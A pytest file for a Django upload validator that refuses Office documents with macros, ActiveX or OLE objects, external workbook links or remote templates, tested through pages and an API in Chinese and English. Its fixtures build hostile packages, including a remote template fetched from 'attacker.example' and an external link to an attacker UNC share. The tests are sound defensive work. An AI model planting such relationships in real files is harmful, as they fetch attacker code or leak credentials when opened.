"""Office files with active content are refused at upload (docs/security.md §37): a macro project, a
macro-enabled content type, ActiveX/OLE objects, or a relationship Office follows by itself on opening
(an external workbook link, a remote template). A plain hyperlink, followed only when clicked, is kept.

The check (`core.uploads.check_office_content`) runs inside `check_upload`, so every upload path has it:
here a page (a platform achievement's evidence, the form shown again with its other input) and the API (an
application's attachment, 400 with the reason), in Chinese and in English."""

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook

from kechuang.core.exceptions import ApplicationError
from kechuang.core.roles import Role
from kechuang.core.uploads import DOCUMENTS, EVIDENCE, REPORTS, TABLES, check_upload

MACRO_TYPE = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


def _workbook(hyperlink: bool = False) -> bytes:
    wb = Workbook()
    ws = wb.active
    ws["A1"], ws["B1"] = "名称", "年份"
    ws["A2"], ws["B2"] = "成果一", 2024
    if hyperlink:
        ws["A3"] = "主页"
        ws["A3"].hyperlink = "https://www.example.cn/"
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _rewrite(data: bytes, *, add: dict[str, bytes] | None = None, types=lambda t: t) -> bytes:
    """The package with parts added and [Content_Types].xml changed by `types`."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = src.read(info)
            if info.filename == "[Content_Types].xml":
                body = types(body.decode()).encode()
            dst.writestr(info.filename, body)
        for name, body in (add or {}).items():
            dst.writestr(name, body)
    return out.getvalue()


PLAIN = _workbook()
WITH_HYPERLINK = _workbook(hyperlink=True)
WITH_VBA = _rewrite(PLAIN, add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504})
WITH_MACRO_TYPE = _rewrite(PLAIN, types=lambda t: t.replace(SHEET_TYPE, MACRO_TYPE))
EXTERNAL_LINK = (
    b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<externalBook r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/>'
    b"</externalLink>"
)
WITH_EXTERNAL_LINK = _rewrite(
    PLAIN,
    add={
        "xl/externalLinks/externalLink1.xml": EXTERNAL_LINK,
        "xl/externalLinks/_rels/externalLink1.xml.rels": (
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'externalLinkPath" Target="file:///\\\\attacker\\share\\book.xlsx" TargetMode="External"/>'
            b"</Relationships>"
        ),
    },
    types=lambda t: t.replace(
        "</Types>",
        '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>',
    ),
)


def _docx(rels: bytes = b"", extra: dict[str, bytes] | None = None) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(
            "[Content_Types].xml",
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Override PartName="/word/document.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        )
        z.writestr("word/document.xml", "<w:document><w:body><w:p/></w:body></w:document>")
        if rels:
            z.writestr("word/_rels/settings.xml.rels", rels)
        for name, body in (extra or {}).items():
            z.writestr(name, body)
    return buf.getvalue()


REMOTE_TEMPLATE = _docx(
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b"<Relationship Id='rId1' TargetMode='External' Target='https://attacker.example/t.dotm' "
    b"Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate'/>"
    b"</Relationships>"
)
REFUSED = {
    "vbaProject.bin": (WITH_VBA, "office_macro", "宏"),
    "macro content type": (WITH_MACRO_TYPE, "office_macro", "宏"),
    "external link part": (WITH_EXTERNAL_LINK, "office_external_link", "外部"),
}


@pytest.mark.parametrize("data", [PLAIN, WITH_HYPERLINK], ids=["plain", "hyperlink"])
@pytest.mark.parametrize("allowed", [DOCUMENTS, TABLES, EVIDENCE])
def test_a_real_workbook_passes_with_or_without_a_hyperlink(data, allowed):
    assert b'TargetMode="External"' in zipfile.ZipFile(io.BytesIO(WITH_HYPERLINK)).read(
        "xl/worksheets/_rels/sheet1.xml.rels"
    )
    assert check_upload(data, "表.xlsx", allowed=allowed).name == "xlsx"


@pytest.mark.parametrize("case", sorted(REFUSED))
@pytest.mark.parametrize("allowed", [DOCUMENTS, TABLES])
def test_active_content_is_refused_with_its_reason(case, allowed):
    data, code, word = REFUSED[case]
    with pytest.raises(ApplicationError) as refused:
        check_upload(data, "表.xlsx", allowed=allowed)
    assert refused.value.code == code and word in str(refused.value.message)
    assert "表.xlsx" in str(refused.value.message)


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (REMOTE_TEMPLATE, "office_external_link"),
        (_docx(extra={"word/vbaProject.bin": b"x"}), "office_macro"),
        (_docx(extra={"word/activeX/activeX1.bin": b"x"}), "office_active_content"),
        (_docx(extra={"word/embeddings/oleObject1.bin": b"x"}), "office_active_content"),
        (_docx(extra={"WORD/VBAPROJECT.BIN": b"x"}), "office_macro"),  # OPC names are case-insensitive
    ],
    ids=["remote template", "vba", "activex", "ole object", "upper case"],
)
def test_a_document_with_active_content_is_refused(data, code):
    with pytest.raises(ApplicationError) as refused:
        check_upload(data, "报告.docx", allowed=REPORTS)
    assert refused.value.code == code


def test_a_document_with_a_hyperlink_or_an_embedded_chart_workbook_passes():
    hyperlink = _docx(
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'hyperlink" Target="https://www.example.cn/" TargetMode="External"/></Relationships>',
        extra={"word/embeddings/Microsoft_Excel_Worksheet.xlsx": PLAIN},
    )
    assert check_upload(hyperlink, "报告.docx", allowed=REPORTS).name == "docx"


def test_an_oversized_relationship_part_is_refused_unread():
    data = _docx(b"<Relationships>" + b" " * (1024 * 1024 + 1) + b"</Relationships>")
    with pytest.raises(ApplicationError) as refused:
        check_upload(data, "报告.docx", allowed=REPORTS)
    assert refused.value.code == "office_unchecked"


@pytest.mark.django_db
@pytest.mark.parametrize("case", sorted(REFUSED))
def test_the_evidence_page_shows_the_reason_and_keeps_the_other_input(case, staff, client_for):
    from kechuang.platforms.tests.factories import PlatformFactory

    platform = PlatformFactory()
    data, _code, word = REFUSED[case]
    r = client_for(staff).post(
        f"/platforms/{platform.pk}/achievements/",
        {
            "kind": "other",
            "title": "保留的成果名称",
            "year": 2024,
            "evidence": "",
            "evidence_file": SimpleUploadedFile("成果.xlsx", data),
        },
        follow=True,
    )
    page = r.content.decode()
    assert word in page and "成果.xlsx" in page
    assert 'value="保留的成果名称"' in page
    assert not platform.achievements.exists()
    r = client_for(staff).post(
        f"/platforms/{platform.pk}/achievements/",
        {
            "kind": "other",
            "title": "成果二",
            "year": 2024,
            "evidence": "",
            "evidence_file": SimpleUploadedFile("成果.xlsx", WITH_HYPERLINK),
        },
    )
    assert platform.achievements.count() == 1


def _application(make_user, language="zh-hans"):
    from kechuang.accounts.tests.factories import UnitFactory
    from kechuang.challenges.tests.factories import ApplicationFactory

    applicant = make_user(Role.APPLICANT, unit=UnitFactory(), language=language)
    return applicant, ApplicationFactory(leader=applicant, unit=applicant.unit, created_by=applicant)


@pytest.mark.django_db
@pytest.mark.parametrize("case", sorted(REFUSED))
def test_the_attachment_api_answers_400_with_the_reason(case, client_for, make_user):
    applicant, app = _application(make_user)
    data, code, word = REFUSED[case]
    url = reverse("api:challenges-application-attachments", args=[app.pk])
    r = client_for(applicant).post(url, {"kind": "plan", "file": SimpleUploadedFile("plan.xlsx", data)})
    assert r.status_code == 400
    assert r.json()["error"]["code"] == code and word in r.json()["error"]["message"]
    assert app.attachments.count() == 0
    r = client_for(applicant).post(
        url, {"kind": "plan", "file": SimpleUploadedFile("plan.xlsx", WITH_HYPERLINK)}
    )
    assert r.status_code == 201 and app.attachments.count() == 1


@pytest.mark.django_db
def test_the_reason_is_in_the_readers_language(client_for, make_user):
    from django.conf import settings

    applicant, app = _application(make_user, language="en")
    url = reverse("api:challenges-application-attachments", args=[app.pk])
    c = client_for(applicant)
    c.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"  # the reader's language for this visit
    r = c.post(url, {"kind": "plan", "file": SimpleUploadedFile("plan.xlsx", WITH_VBA)})
    assert r.status_code == 400
    assert "macro" in r.json()["error"]["message"]
    r = c.post(url, {"kind": "plan", "file": SimpleUploadedFile("plan.xlsx", WITH_EXTERNAL_LINK)})
    assert "external" in r.json()["error"]["message"]
